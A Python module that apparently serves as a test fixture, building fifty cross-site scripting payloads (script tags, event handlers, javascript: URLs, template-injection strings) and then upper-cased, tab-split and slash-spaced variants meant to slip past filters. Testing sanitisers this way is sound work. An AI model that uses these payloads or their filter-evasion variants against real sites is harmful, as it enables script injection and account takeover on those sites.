"""Texts that run as scripts where a page lets them."""

from __future__ import annotations

__all__ = ["PAYLOADS", "many"]

_RUN = ("alert(1)", "console.log('PWNED')")
_SHAPES = (
    "<script>{0}</script>",
    "</script><script>{0}</script>",
    '"><script>{0}</script>',
    "'><script>{0}</script>",
    "<img src=x onerror={0}>",
    '"><img src=x onerror={0}>',
    "<svg onload={0}>",
    "<svg/onload={0}>",
    '" onfocus={0} autofocus x="',
    "' onfocus={0} autofocus x='",
    "<body onload={0}>",
    "<iframe src=javascript:{0}>",
    "<a href=javascript:{0}>x</a>",
    "javascript:{0}",
    "<details open ontoggle={0}>",
    "<input autofocus onfocus={0}>",
    "</textarea><script>{0}</script>",
    "</title><script>{0}</script>",
    "<math><mtext><script>{0}</script></mtext></math>",
    "<template><script>{0}</script></template>",
    "{{{{constructor.constructor('{0}')()}}}}",
    "{{% raw %}}<script>{0}</script>{{% endraw %}}",
    "<div hx-get=/ hx-trigger=load hx-on:load={0}>",
    "<div hx-on::after-request={0} hx-get=/ hx-trigger=load>",
    "<meta http-equiv=refresh content=0;javascript:{0}>",
)

PAYLOADS = tuple(shape.format(run) for run in _RUN for shape in _SHAPES)
"""Fifty of them."""


def many() -> tuple[str, ...]:
    """Two hundred: the fifty, in other cases and with what filters forget."""
    turned = (str.upper, lambda text: text.replace("<", "<\t"), lambda text: text.replace(" ", "/"))
    return (*PAYLOADS, *(turn(text) for turn in turned for text in PAYLOADS))
